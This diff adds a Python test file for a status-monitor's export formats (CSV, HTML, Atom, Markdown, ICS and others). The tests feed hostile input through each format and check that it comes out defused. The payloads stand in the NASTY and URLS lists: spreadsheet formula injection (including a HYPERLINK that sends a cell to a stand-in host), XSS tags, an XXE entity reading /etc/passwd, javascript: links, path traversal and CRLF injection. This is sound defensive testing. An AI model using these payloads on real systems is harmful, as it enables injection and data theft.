@@ -1,0 +1,449 @@
+"""Exports."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import html.parser
+import importlib
+import io
+import json
+import re
+import sys
+import tracemalloc
+from collections.abc import Callable, Iterable, Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree
+
+import pytest
+
+from statuswatch import export
+from statuswatch.app.records import records
+from statuswatch.cli.main import main
+from statuswatch.core.model import (
+    Incident,
+    KnownIncident,
+    Level,
+    Role,
+    Service,
+    Source,
+    Update,
+)
+from statuswatch.core.record import Record, record
+from statuswatch.core.words import Setting, say
+from statuswatch.export.writing import write_whole
+from statuswatch.store.nouns import Filter
+from tests.engine.stage import MINUTE, Town, incident, summary
+from tests.hostile.case import Rig, case, held, look
+
+NOON = datetime(2025, 11, 9, 12, 0, tzinfo=UTC)
+CANARY = "canary.invalid"
+NASTY = (
+    '=HYPERLINK("http://canary.invalid/"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " \u200b＝1+1",
+    "'=1+1",
+    '"quoted", and, commas;\nand a line\r\nand another\rend',
+    "NUL\0in the middle, \x1b[31mred\x1b[0m, bell\x07, \x9b31m",
+    "half a sign \ud83d and \udfff",
+    "\u202eevitator\u202c \u2066isolated\u2069 zalgo Z\u0351\u036b\u0343\u036a\u0302",
+    "<script src=//canary.invalid/x.js></script><img src=x onerror=alert(1)>",
+    "</td></tr></table><iframe src='http://canary.invalid'></iframe>",
+    "</title><style>@import url(//canary.invalid)</style>&lt;script&gt;alert(1)&lt;/script&gt;",
+    "]]></content><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "[link](javascript:alert(1)) ![i](http://canary.invalid/i.png) <http://canary.invalid>",
+    "| a | table | --- | `code` *bold* # head\n# another\n- item\n> quote",
+    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTENDEE:mailto:a@canary.invalid",
+    "back\\slash; semicolon, comma\\n" + "é" * 200,
+    "../../../etc/passwd",
+    "x" * 50_000,
+    "",
+)
+URLS = (
+    "https://status.example.com/i/1",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    'https://h.example/"onmouseover=alert(1) x="',
+    "https://h.example/a b\r\nX-EVIL:1",
+    "https://h.example/)](javascript:alert(1))",
+    " http://h.example/<script>",
+    "",
+)
+
+
+def hostile_records() -> Iterator[Record]:
+    for n, text in enumerate(NASTY):
+        service = Service("s", text or "Vendor")
+        source = Source("s1", "s", "statuspage", f"https://user:pw{n}@status.example.com/{n}")
+        update = Update(f"u{n}", NOON, text[:40], text)
+        told = Incident(
+            f"k{n}",
+            text or "No title",
+            Level.DOWN,
+            NOON + timedelta(hours=n),
+            None if n % 3 else NOON + timedelta(hours=n, minutes=90),
+            url=URLS[n % len(URLS)],
+            components=frozenset({text, "A part"} - {""}),
+            updates=(update,),
+        )
+        known = KnownIncident("s1", Role.OFFICIAL, told, NOON, NOON, worst=Level.DOWN)
+        yield record(service, source, known, f"o{n}", None, NOON + timedelta(days=9))
+
+
+# -- what each form must hold -----------------------------------------------------------------
+
+
+def whole(text: str) -> None:
+    """Of every form: a file of text."""
+    text.encode("utf-8")
+    assert "\0" not in text
+
+
+def clean(text: str, more: str = "") -> None:
+    """Of what is made to be shown, and of everything that came in by the door: a terminal may, too."""
+    whole(text)
+    found = re.search(f"[\0\x1b\x07\x9b{more}]", text)
+    assert not found, (found, text[max(0, found.start() - 40) : found.end() + 40])
+
+
+def is_csv(text: str, number: int) -> None:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == number + 1
+    assert {len(row) for row in rows} == {len(rows[0])}
+    for cell in (cell for row in rows for cell in row):
+        assert not re.match(r"[\s\u200b\u200e\u200f\u2060\ufeff]*[=+\-@＝＋－＠]", cell), cell[:60]
+        assert not re.match(r"[\t\r\n]", cell), cell[:60]
+
+
+def is_json(text: str, number: int) -> None:
+    rows = json.loads(text)["outages"]
+    assert len(rows) == number
+    assert any("<script" in row["title"] for row in rows), "text as it was told: no HTML here"
+
+
+def is_jsonl(text: str, number: int) -> None:
+    rows = [json.loads(line) for line in text.split("\n") if line]
+    assert len([row for row in rows if "title" in row]) == number
+
+
+TAGS = frozenset(
+    re.findall(
+        r"[\w-]+",
+        "html head meta title style body h1 h2 h3 p table thead tbody tr th td br span bdi a ul ol li"
+        " blockquote dl dt dd hr figure figcaption footer header main section em strong div time"
+        " caption small code pre del ins cite",
+    )
+)
+
+
+class Seen(html.parser.HTMLParser):
+    """What a browser would make of it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.rows = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        self.rows += tag == "tr"
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name)
+            assert name not in {"src", "srcdoc", "background", "action"}, (tag, name)
+            if name == "href":
+                assert (value or "").startswith(("https://", "http://")), value
+            if tag == "style" or name == "style":
+                assert "url(" not in (value or "")
+
+    def handle_decl(self, decl: str) -> None:
+        assert decl.casefold() == "doctype html", decl
+
+    def handle_data(self, data: str) -> None:
+        if self.lasttag == "style":
+            assert CANARY not in data
+
+
+def is_html(text: str, number: int) -> None:
+    clean(text, "\u202e")
+    seen = Seen()
+    seen.feed(text)
+    seen.close()
+    assert seen.rows == number + 1, seen.rows
+
+
+def is_atom(text: str, number: int) -> None:
+    clean(text)
+    assert "<!DOCTYPE" not in text.replace("&lt;!DOCTYPE", "")
+    root = ElementTree.fromstring(text)
+    name = "{http://www.w3.org/2005/Atom}"
+    entries = root.findall(f"{name}entry")
+    assert len(entries) == number
+    assert len({entry.findtext(f"{name}id") for entry in entries}) == number
+    for one in root.iter():
+        assert one.tag.startswith(name), one.tag
+        assert one.get("type") in {None, "text"}, "nobody is told that it is HTML"
+        href = one.get("href")
+        assert href is None or href.startswith(("https://", "http://")), href
+
+
+def is_markdown(text: str, number: int) -> None:
+    clean(text)
+    rows = [line for line in text.split("\n") if line.startswith("| ")]
+    assert len(rows) == number + 2, "a head, a line below it, and the rows"
+    cells = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
+    assert len(cells) == 1, cells
+    in_markdown(text)
+
+
+def in_markdown(text: str) -> None:
+    """No picture, no HTML, and no link that leads anywhere but to the web."""
+    assert not re.search(r"(?<!\\)!\[", text), "a picture"
+    for found in re.finditer(r"(?<!\\)<([^>]*)", text):
+        assert found[1].startswith(("http://", "https://")), found[0][:60]
+    for found in re.finditer(r"(?<!\\)\]\(<?([^)>]*)", text):
+        assert found[1].startswith(("http://", "https://")), found[0][:60]
+
+
+CALENDAR = frozenset(
+    re.findall(
+        r"[\w-]+",
+        "BEGIN END VERSION PRODID CALSCALE METHOD X-WR-CALNAME UID DTSTAMP DTSTART DTEND SEQUENCE"
+        " LAST-MODIFIED SUMMARY DESCRIPTION STATUS TRANSP CATEGORIES URL",
+    )
+)
+
+
+def is_ics(text: str, number: int) -> None:
+    clean(text)
+    raw = text.encode()
+    assert b"\n" not in raw.replace(b"\r\n", b"")
+    assert b"\r" not in raw.replace(b"\r\n", b"")
+    assert max(len(line) for line in raw.split(b"\r\n")) <= 75
+    lines = text.replace("\r\n ", "").split("\r\n")
+    assert lines.pop() == ""
+    names = [re.split("[:;]", line, maxsplit=1)[0] for line in lines]
+    assert set(names) <= CALENDAR, set(names) - CALENDAR
+    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == number
+    assert {line for line in lines if line.startswith("BEGIN:")} == {
+        "BEGIN:VCALENDAR",
+        "BEGIN:VEVENT",
+    }
+    for line in lines:
+        if line.startswith("URL:"):
+            assert line.startswith(("URL:https://", "URL:http://")), line
+
+
+FORMS: dict[str, Callable[[str, int], None]] = {
+    "csv": is_csv,
+    "json": is_json,
+    "jsonl": is_jsonl,
+    "html": is_html,
+    "atom": is_atom,
+    "markdown": is_markdown,
+    "ics": is_ics,
+}
+
+
+def each() -> tuple[str, ...]:
+    """Every format there is. A new one has to say above what it must hold."""
+    assert set(export.names()) <= set(FORMS), set(export.names()) - set(FORMS)
+    return export.names()
+
+
+def rendered(name: str, rows: Iterable[Record]) -> str:
+    return "".join(export.load(name).render(rows, NOON + timedelta(days=9)))
+
+
+def strangers_words_in_every_format(_: Rig) -> str:
+    rows = list(hostile_records())
+    for name in each():
+        text = rendered(name, rows)
+        whole(text)
+        FORMS[name](text, len(rows))
+        assert not re.search(r"pw\d+@", text), f"a password in {name}"
+    return f"{len(rows)} rows of strangers' text in {', '.join(each())}"
+
+
+async def from_the_page_to_the_file(rig: Rig) -> str:
+    """The same words, told by a vendor's page: polled, kept, exported."""
+    async with Town(rig.folder) as town:
+        vendor = await town.vendor(name="=cmd|' /C calc'!A0")
+        async with town.watching():
+            await town.go(MINUTE * 10)
+            told = []
+            for n, text in enumerate(NASTY):
+                name = text.encode("utf-8", "replace").decode()
+                update = {"id": f"u{n}", "body": name, "status": "investigating"}
+                told.append(incident(f"i{n}", name=name or "x", incident_updates=[update]))
+            vendor.body = summary(*told)
+            await town.go(MINUTE * 20)
+        now = town.clock.now()
+        rows = list(records(town.app.stored.history, Filter(), now))
+    assert len(rows) >= len(NASTY) - 1, len(rows)
+    for name in each():
+        text = rendered(name, rows)
+        clean(text)
+        FORMS[name](text, len(rows))
+    return f"{len(rows)} incidents of one page"
+
+
+def documents_of_strangers_words(_: Rig) -> str:
+    """The documents, where the program has them: they escape in every form."""
+    try:
+        papers = importlib.import_module("statuswatch.export.papers")
+        paper = importlib.import_module("statuswatch.core.paper")
+    except ImportError:
+        pytest.skip("there are no documents yet")
+    seen = 0
+    for form in papers.names():
+        for n, text in enumerate(NASTY):
+            told = paper.Told(text, URLS[n % len(URLS)])
+            blocks = (
+                paper.Heading(told),
+                paper.Paragraph(told),
+                paper.Quote(told, told, NOON, told, (told,)),
+                paper.Table((say("A"),), ((told,),)),
+                paper.Bullets((told,)),
+                paper.Figures(((say("B"), told),)),
+            )
+            made: Any = paper.Paper(say("About {what}", what=text), None, blocks)
+            written = "".join(papers.load(form).render(made, Setting()))
+            clean(written)
+            if form == "html":
+                page = Seen()
+                page.feed(written)
+                page.close()
+            elif form == "markdown":
+                in_markdown(written)
+            seen += 1
+    return f"{seen} documents in {', '.join(papers.names())}"
+
+
+# -- places -----------------------------------------------------------------------------------
+
+
+async def names_that_climb(rig: Rig) -> str:
+    """A service is called like a path: a file's name is never made of it."""
+    async with Town(rig.folder / "profile") as town:
+        vendor = await town.vendor(name="../../../../tmp/evil")
+        async with town.watching():
+            await town.go(MINUTE * 10)
+            vendor.body = summary(incident(name="../../evil", id="../../i"))
+            await town.go(MINUTE * 10)
+        [service] = town.app.stored.ledger.services()
+    assert re.fullmatch(r"[a-z0-9-]+", service.id), service.id
+    for name in each():
+        target = rig.folder / f"out{export.load(name).suffix}"
+        code = await asyncio.to_thread(
+            main, ["--profile", str(town.folder), "export", "--format", name, "-o", str(target)]
+        )
+        assert code == 0
+        assert target.is_file()
+    outside = {p.name for p in rig.folder.iterdir()} - {"profile"}
+    assert outside == {f"out{export.load(name).suffix}" for name in each()}, outside
+    return f"the service's id is {service.id}; {len(outside)} files, all where they were asked for"
+
+
+def a_hundred_thousand_rows(rig: Rig) -> str:
+    """In every format, streamed: what stands in memory is no more than of a few."""
+    words = []
+    for name in each():
+        few = list(hostile_records())[-1:]
+
+        def many(one: Record = few[0]) -> Iterator[Record]:
+            for _ in range(100_000):
+                yield one
+
+        path = rig.folder / f"many{export.load(name).suffix}"
+        rendered_ = export.load(name).render(many(), NOON)
+        tracemalloc.start()
+        write_whole(path, rendered_)
+        _, most = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        assert most < 10_000_000, f"{name}: {most / 1e6:.0f} MB"
+        words.append(f"{name} {path.stat().st_size / 1e6:.0f} MB with {most / 1e6:.1f} MB")
+    return f"100,000 rows: {', '.join(words)}"
+
+
+async def places_that_cannot_be_written(rig: Rig) -> str:
+    async with Town(rig.folder / "profile") as town:
+        vendor = await town.vendor()
+        async with town.watching():
+            await town.go(MINUTE * 10)
+            vendor.body = summary(incident())
+            await town.go(MINUTE * 10)
+    folder = rig.folder / "a folder"
+    folder.mkdir()
+    file = rig.folder / "a file"
+    file.write_text("x")
+    places = [folder, rig.folder / "none" / "x", file / "x", rig.folder / ("n" * 300)]
+    if sys.platform == "linux":
+        places.append(Path("/dev/full"))
+    for name in each():
+        for place in places:
+            code = await asyncio.to_thread(
+                main, ["--profile", str(town.folder), "export", "--format", name, "-o", str(place)]
+            )
+            assert code == 64, (name, place, code)
+    assert file.read_text() == "x"
+    assert {p.name for p in rig.folder.iterdir()} == {"profile", "a folder", "a file"}
+    return f"{len(places)} places, each refused in words in {len(each())} formats; nothing left"
+
+
+WRITING = "tests/export/test_writing.py"
+
+CASES = (
+    case(
+        104,
+        "formulas, quotes, line breaks, odd Unicode, NUL in every column",
+        "0 formula cells; every file can be read back, in every format",
+        look(strangers_words_in_every_format),
+        look(from_the_page_to_the_file),
+        held(
+            "tests/export/test_formats.py::test_a_cell_that_a_spreadsheet_would_execute_is_defused",
+            "tests/export/test_formats.py::test_every_json_reads_back_as_it_was",
+            "tests/export/test_formats.py::test_half_a_surrogate_pair_spoils_no_file",
+        ),
+    ),
+    case(
+        105,
+        "names that are paths",
+        "no file outside of what was asked for",
+        look(names_that_climb),
+    ),
+    case(
+        106,
+        "100,000 rows",
+        "streamed: under 10 MB of memory, in every format",
+        look(a_hundred_thousand_rows, slow="some 20 s a format"),
+        held(
+            "tests/export/test_formats.py::test_rendering_reads_no_further_than_it_has_written",
+        ),
+    ),
+    case(
+        107,
+        "a target that is a folder, on a full disk, not writable",
+        "said in words, the old file as it was, nothing left beside it",
+        look(places_that_cannot_be_written),
+        held(
+            f"{WRITING}::test_an_interrupted_export_keeps_the_old_file",
+            f"{WRITING}::test_a_full_disk_keeps_the_old_file_and_is_told",
+            f"{WRITING}::test_a_folder_is_no_file",
+            f"{WRITING}::test_a_place_one_may_not_write_is_told",
+        ),
+    ),
+    case(
+        108,
+        "HTML and PDF that are made unattended",
+        "strangers' text is text: no tag, no script, no picture, no address that is none",
+        look(strangers_words_in_every_format, "strangers words as a page"),
+        look(documents_of_strangers_words),
+    ),
+)
